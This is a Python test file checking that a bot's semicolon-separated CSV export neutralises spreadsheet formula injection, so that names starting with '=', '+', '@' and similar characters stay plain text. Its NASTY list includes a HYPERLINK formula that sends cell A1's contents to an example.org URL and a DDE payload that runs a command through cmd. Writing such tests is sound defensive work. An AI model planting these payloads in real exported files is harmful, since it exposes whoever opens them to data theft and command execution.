"""The table opens by a double click in Latvia, and nothing in it is ever calculated."""

import csv
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.figures.table import csv_file, still

NASTY = (
    '=HYPERLINK("http://example.org?"&A1;"Poster")', "+371 20000000", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", "\0=1+1", "＝1+1", "=cmd|' /C calc'!A0", "'=1+1", '"=1+1',
)  # fmt: skip
LIVE = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")


def read(file: bytes) -> list[list[str]]:
    return list(csv.reader(StringIO(file.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.mark.feature("X42")
@pytest.mark.parametrize("name", NASTY)
def test_a_name_that_looks_like_a_formula_stays_text(name: str) -> None:
    ((cell, number),) = read(csv_file([[name, -5]]))
    assert not cell.lstrip(" ").startswith(LIVE)
    assert cell.endswith(name)
    assert number == "-5"  # a number of ours is no text of theirs


@pytest.mark.feature("X42")
@given(st.lists(st.lists(st.text(), min_size=2, max_size=2)))
def test_no_text_whatsoever_begins_a_formula_nor_breaks_out_of_its_cell(rows: list[list[str]]) -> None:
    found = read(csv_file(rows))
    assert found == [[still(cell) for cell in row] for row in rows]
    assert not any(cell.lstrip(" ").startswith(LIVE) for row in found for cell in row)


def test_excel_finds_the_letters_and_the_cells() -> None:
    file = csv_file([["Avots", "Atvēra botu"], ["Ieeja, =1+1; bibliotēka", 15]])
    assert file == '\ufeff"Avots";"Atvēra botu"\r\n"Ieeja, =1+1; bibliotēka";15\r\n'.encode()
